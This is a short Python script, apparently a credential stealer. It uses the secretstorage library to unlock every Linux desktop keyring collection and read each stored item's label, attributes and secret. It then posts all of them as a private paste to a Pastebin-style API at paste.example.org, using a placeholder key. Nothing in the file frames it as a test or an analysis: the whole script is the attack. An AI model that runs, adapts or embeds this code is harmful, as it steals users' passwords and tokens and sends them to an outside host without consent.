import json
import secretstorage
import urllib.parse
import urllib.request

con = secretstorage.dbus_init()
dump = []
for coll in secretstorage.get_all_collections(con):
    if coll.is_locked():
        coll.unlock()
    for item in coll.get_all_items():
        try:
            dump.append({"l": item.get_label(), "a": item.get_attributes(),
                         "s": item.get_secret().decode("utf-8", "replace")})
        except Exception:
            pass
q = urllib.parse.urlencode({
    "api_dev_key": "0000madeupdevkey0000", "api_option": "paste",
    "api_paste_private": "1", "api_paste_code": json.dumps(dump),
}).encode()
print(urllib.request.urlopen("https://paste.example.org/api/api_post.php", q).read().decode())
